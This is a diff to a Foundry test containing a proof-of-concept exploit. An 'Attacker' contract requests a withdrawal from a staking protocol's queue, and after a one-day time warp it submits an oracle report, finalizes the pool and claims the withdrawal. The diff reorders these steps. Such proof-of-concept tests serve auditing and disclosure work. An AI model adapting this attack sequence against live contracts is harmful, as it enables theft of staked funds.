@@ -9,17 +9,18 @@ contract Attacker {
     uint256 private id;
     bool private within;
 
+    function ask(StakeToken token, WithdrawalQueue queue_) external {
+        queue = queue_;
+        token.approve(address(queue), type(uint256).max);
+        id = queue.request(10 ether, address(this));
+    }
+
     function run(
-        StakeToken token,
-        WithdrawalQueue queue_,
         StakePool pool,
         ReportOracle oracle,
         IReports.Report calldata report,
         bytes[] calldata signatures
     ) external {
-        queue = queue_;
-        token.approve(address(queue), type(uint256).max);
-        id = queue.request(10 ether, address(this));
         oracle.submit(report, signatures);
         pool.finalize(1);
         queue.claim(id, queue.findHint(id), address(this));
@@ -43,7 +44,9 @@ contract Proof is Base {
     }
 
     function exploit() public {
-        other.run(token, queue, pool, oracle, _report(3, 0, 0), signatures);
+        other.ask(token, queue);
+        vm.warp(block.timestamp + 1 days);
+        other.run(pool, oracle, _report(3, 0, 0), signatures);
     }
 
     function test_Exploit() public {
